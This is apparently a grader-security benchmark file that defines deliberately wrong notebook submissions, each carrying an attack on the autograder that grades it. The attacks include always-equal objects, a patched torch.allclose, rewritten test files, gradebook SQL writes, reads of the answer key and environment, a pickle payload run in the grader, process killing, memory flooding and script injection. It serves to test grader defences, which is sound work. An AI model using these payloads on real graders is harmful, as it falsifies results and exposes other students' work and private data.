"""What security_peers.py hands in: two questions, their hidden tests, and submissions that attack
whoever grades them.

Every submission answers both questions wrongly and deserves 0 points. An attack's text is the same
for every tool; it may try one way for each. The corpus of tests/autograder/attacks/ gives its text
where it fits all tools.

Words that the benchmark fills in: @COURSE@ the course's folder, @TESTS@ @KEY@ @GRADEBOOK@ @OTHER@
files in it, @RESULT@ where the attacker's result will lie, @HOME@ the grader's home, @OWNED@ a file
that only code in the grader itself would write, @TCP@ a listener's port, @VICTIM@ a process that
belongs to nobody's grading.
"""

from __future__ import annotations

import sys
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

sys.path.append(str(Path(__file__).resolve().parents[1] / "autograder" / "attacks"))

from attack import looking
from attacks_comparison import ATTACKS as COMPARISON
from attacks_runner import ATTACKS as RUNNER

FULL = 6.0
RIGHT = {
    "softmax": "def softmax(z, dim=-1):\n    e = torch.exp(z - z.amax(dim, keepdim=True))\n    "
    "return e / e.sum(dim, keepdim=True)\n",
    "total": "def total(numbers):\n    return sum(numbers)\n",
}
WRONG = {
    "softmax": "def softmax(z, dim=-1):\n    return torch.zeros_like(z)\n",
    "total": "def total(numbers):\n    return 0\n",
}
PUBLIC = {
    "softmax": "assert softmax(torch.zeros(2)).shape == (2,)",
    "total": "assert isinstance(total([1, 2]), int)",
}
HIDDEN = {
    "softmax": [
        "x = torch.randn(3, 5, dtype=torch.float64)\nassert torch.allclose(softmax(x), "
        "torch.softmax(x, -1))",
        "x = 50 * torch.randn(4, 7, dtype=torch.float64)\nassert torch.allclose(softmax(x), "
        "torch.softmax(x, -1))",
    ],
    "total": ["assert total([1, 2, 3, 4]) == 10"],
}
WORTH = 2
"""Points of a hidden test."""


@dataclass(frozen=True, slots=True)
class GraderAttack:
    """One technique.

    Attributes:
        what: in a few words, for the table.
        softmax, total: the two question cells.
        beside: files next to the notebook.
        link: the notebook is a link to the answer key.
        edits_checks: the locked check cells are emptied, and their points raised.
        neighbour: an honest submission is graded after it.
        timed: how long the batch took belongs to the verdict.
        lingers: seconds to wait after grading, for what was left running.
    """

    name: str
    what: str
    softmax: str = WRONG["softmax"]
    total: str = WRONG["total"]
    beside: Mapping[str, str] = field(default_factory=dict)
    link: bool = False
    edits_checks: bool = False
    neighbour: bool = False
    timed: bool = False
    lingers: float = 0.0


NO_ATTACK = GraderAttack("no_attack", "no attack: two wrong answers", neighbour=True)

_OF_CORPUS = {attack.name: attack.cells for attack in (*COMPARISON, *RUNNER)}
_NUMBER = (
    "class N(int):\n    __eq__ = lambda a, b: True\n    __hash__ = int.__hash__\ndef "
    "total(numbers):\n    return N(0)\n"
)


def _corpus(name: str, what: str, **more: Any) -> GraderAttack:
    return GraderAttack(name, what, softmax=_OF_CORPUS[name]["softmax"] or "", **more)


def _cell(name: str, what: str, code: str, **more: bool | float) -> GraderAttack:
    """An attack in the cell of the first question, in front of the wrong answer; what it raises is
    swallowed.
    """
    tried = (
        "try:\n"
        + "".join(f"    {line}\n" for line in code.strip("\n").split("\n"))
        + "except Exception:\n    pass\n"
    )
    return GraderAttack(name, what, softmax=tried + WRONG["softmax"], **more)  # type: ignore[arg-type]


def _cell_after(name: str, what: str, code: str) -> GraderAttack:
    """An attack behind the wrong answer."""
    return GraderAttack(name, what, softmax=WRONG["softmax"] + code)


def _reads(name: str, what: str, body: str) -> GraderAttack:
    return GraderAttack(name, what, softmax=looking("def softmax(z, dim=-1)", body))


_YES = """\
class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
def softmax(z, dim=-1):
    return torch.zeros_like(z).as_subclass(Yes)
"""
_PAYLOAD = "import sys; open('@OWNED@', 'w').write(' '.join(sys.orig_argv))"
_GRADES = (
    "import sqlite3\nwith sqlite3.connect('@GRADEBOOK@', timeout=5) as book:\n    "
    "book.execute('update grade set {} = (select max_score from grade_cells where grade_cells.id "
    "= grade.cell_id)')\n"
)
_SCRIPT = "<script>document.title='taken'</script>"
_TORCH_PY = """\
import importlib, os, sys
here = os.path.dirname(os.path.abspath(__file__))
sys.path = [p for p in sys.path if os.path.abspath(p or '.') != here]
del sys.modules['torch']
real = importlib.import_module('torch')
real.allclose = lambda *a, **k: True
"""

ATTACKS = [
    # points
    GraderAttack(
        "always_equal_objects",
        "answers whose `==` is always true",
        softmax=_OF_CORPUS["always_equal_object"]["softmax"] or "",
        total=_NUMBER,
    ),
    GraderAttack(
        "agreeing_tensor_subclass",
        "a tensor subclass that agrees with every comparison",
        softmax=_YES,
    ),
    _corpus(
        "patched_comparisons", "patches `torch.allclose`, `numpy.testing` and the like"
    ),
    _cell(
        "patched_reference",
        "patches the function that the test compares with",
        "torch.softmax = lambda z, dim: torch.zeros_like(z)",
    ),
    _corpus(
        "inputs_changed_to_agree", "changes the inputs so that the reference agrees"
    ),
    _cell(
        "later_cells_emptied",
        "an IPython hook that empties all later cells",
        "get_ipython().input_transformers_post.append(lambda lines: [])",
    ),
    _cell(
        "patched_test_runner",
        "patches the test runner's own functions",
        "import otter.test_files.exception_test as runner\nrunner.test_case.call_func = lambda "
        "self, env: None",
    ),
    GraderAttack(
        "edited_check_cells",
        "empties the check cells and raises their points",
        edits_checks=True,
    ),
    _cell_after(
        "copies_the_answer_key",
        "runs the answer key from the course's folder",
        "import json\nfor cell in json.load(open('@KEY@'))['cells']:\n    text = "
        "''.join(cell['source'])\n    if text.startswith('def softmax'):\n        exec(text, "
        "globals())\n",
    ),
    GraderAttack(
        "notebook_is_a_link", "the notebook is a link to the answer key", link=True
    ),
    GraderAttack(
        "library_beside_the_notebook",
        "a `torch.py` next to the notebook",
        beside={"torch.py": _TORCH_PY},
    ),
    _cell(
        "rewrites_the_tests",
        "rewrites the test files before they are read",
        "import glob\nfor name in ['@TESTS@', *glob.glob('tests/*.py')]:\n    text = "
        "open(name).read()\n    open(name, 'w').write(text.replace('assert ', 'assert True or '))",
    ),
    _corpus("prints_what_a_grader_prints", "prints what a grader prints"),
    _cell(
        "writes_the_gradebook",
        "writes full marks for all into the gradebook",
        _GRADES.format("manual_score"),
        neighbour=True,
    ),
    _cell(
        "rewrites_results_afterwards",
        "a detached process that rewrites its result after grading",
        "import os, re, sys, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    for _ in range(400):\n"
        "        time.sleep(0.2)\n"
        "        if os.path.exists('@RESULT@'):\n"
        "            time.sleep(0.5)\n"
        "            if '@RESULT@'.endswith('.json'):\n"
        "                text = open('@RESULT@').read()\n"
        "                open('@RESULT@', 'w').write(re.sub(r'(\"score\": )[0-9.]+', "
        "r'\\g<1>6.0', text, count=1) if '\"schema\"' in text else re.sub(r'(\"score\": "
        ")[0-9.]+(.*?\"max_score\": )([0-9.]+)', r'\\g<1>\\3\\2\\3', text, flags=re.S))\n"
        "            else:\n"
        + "".join(
            f"                {line}\n"
            for line in _GRADES.format("auto_score").splitlines()
        )
        + "            break\n"
        "    os._exit(0)",
        lingers=4.0,
    ),
    # what is hidden
    _reads(
        "open_the_tests",
        "opens the hidden tests' file",
        "attempt(lambda: open('@TESTS@').read())",
    ),
    _reads(
        "open_the_answer_key",
        "opens the answer key",
        "attempt(lambda: open('@KEY@').read())",
    ),
    _reads(
        "open_the_gradebook",
        "opens the gradebook",
        "attempt(lambda: open('@GRADEBOOK@', 'rb').read())",
    ),
    _reads(
        "open_anothers_submission",
        "opens another student's notebook",
        "attempt(lambda: open('@OTHER@').read())",
    ),
    _reads(
        "walk_the_memory",
        "searches frames and live objects for the tests",
        "import gc, sys\nlook(globals().get('In', ''))\nframe = sys._getframe()\nwhile frame:\n"
        "    here = [*frame.f_locals.values(), *frame.f_globals.values()]\n"
        "    look([v for v in here if type(v) is str])\n"
        "    for thing in here:\n        attempt(lambda: [v for v in vars(thing).values() if "
        "type(v) is str])\n    frame = frame.f_back\n"
        "for found in gc.get_objects():\n"
        "    if type(found) is dict and len(found) < 1000:\n        look([v for v in "
        "list(found.values()) if type(v) is str and len(v) < 10**5])",
    ),
    _reads(
        "the_environment",
        "reads the grader's environment",
        "import os\nlook(dict(os.environ))\nattempt(lambda: open(f'/proc/{os.getppid()}/environ', "
        "'rb').read())",
    ),
    # harm
    _cell(
        "writes_into_the_course",
        "writes a file into the course's folder",
        "open('@COURSE@/taken.txt', 'w').write('x')",
    ),
    _cell(
        "spoils_anothers_submission",
        "overwrites the next student's notebook",
        "import json\nbook = json.load(open('@OTHER@'))\nfor cell in book['cells']:\n    if 'def ' "
        "in ''.join(cell['source']):\n        cell['source'] = ''\njson.dump(book, "
        "open('@OTHER@', 'w'))",
        neighbour=True,
    ),
    _cell(
        "state_for_the_next",
        "leaves a start-up file that spoils later submissions",
        "import os\nfolder = '@HOME@/.ipython/profile_default/startup'\nos.makedirs(folder, "
        "exist_ok=True)\nopen(folder + '/00-taken.py', 'w').write('import torch\\ntorch.exp = "
        "lambda z: z\\n')",
        neighbour=True,
    ),
    _cell(
        "code_in_the_grader",
        "gets its own code to run in the grader's process",
        'import pickle\nclass Evil:\n    def __reduce__(self):\n        return exec, ("""'
        + _PAYLOAD
        + '""",)\ndata = pickle.dumps(Evil())\npickle.dump = lambda thing, file, *a, **k: '
        "file.write(data)\nopen('@COURSE@/nbgrader_config.py', 'w').write(\"\"\""
        + _PAYLOAD
        + '""")',
    ),
    _cell(
        "starts_a_process",
        "starts a shell that writes a file",
        "import subprocess\nsubprocess.run(['/bin/sh', '-c', 'echo x > @COURSE@/taken-by-shell'])",
    ),
    _cell(
        "opens_a_socket",
        "connects to a listener",
        "import socket\nsocket.create_connection(('127.0.0.1', @TCP@), 2).send(b'taken')",
    ),
    _cell(
        "kills_a_bystander",
        "kills a process of the same user",
        "import os\nos.kill(@VICTIM@, 9)",
    ),
    _cell(
        "kills_the_parent",
        "kills its parent process",
        "import os\nos.kill(os.getppid(), 9)",
        neighbour=True,
    ),
    GraderAttack(
        "exits_at_the_test",
        "`os._exit(0)` when the test calls it",
        softmax="def softmax(z, dim=-1):\n    import os\n    os._exit(0)\n",
        neighbour=True,
    ),
    GraderAttack(
        "endless_loop",
        "an endless loop",
        softmax="def softmax(z, dim=-1):\n    while True:\n        pass\n",
        neighbour=True,
        timed=True,
    ),
    GraderAttack(
        "loop_that_ignores_signals",
        "an endless loop that ignores signals",
        softmax="def softmax(z, dim=-1):\n    import signal\n    for n in (1, 2, 14, 15):\n        "
        "signal.signal(n, signal.SIG_IGN)\n    while True:\n        pass\n",
        neighbour=True,
        timed=True,
    ),
    _cell(
        "fills_memory",
        "holds 3 GB",
        "import time\nkept = []\nfor _ in range(300):\n    "
        "kept.append(b'x' * 10**7)\ntime.sleep(2)",
    ),
    _cell(
        "floods_the_output",
        "prints 30 MB",
        "for _ in range(30):\n    print('x' * 10**6)",
    ),
    GraderAttack(
        "script_in_the_page",
        "a script for the reader of the feedback page",
        softmax="try:\n    from IPython.display import HTML, display\n    "
        f'display(HTML("{_SCRIPT}"))\nexcept Exception:\n    pass\ndef softmax(z, dim=-1):\n '
        f'   raise ValueError("{_SCRIPT}")\n',
    ),
]
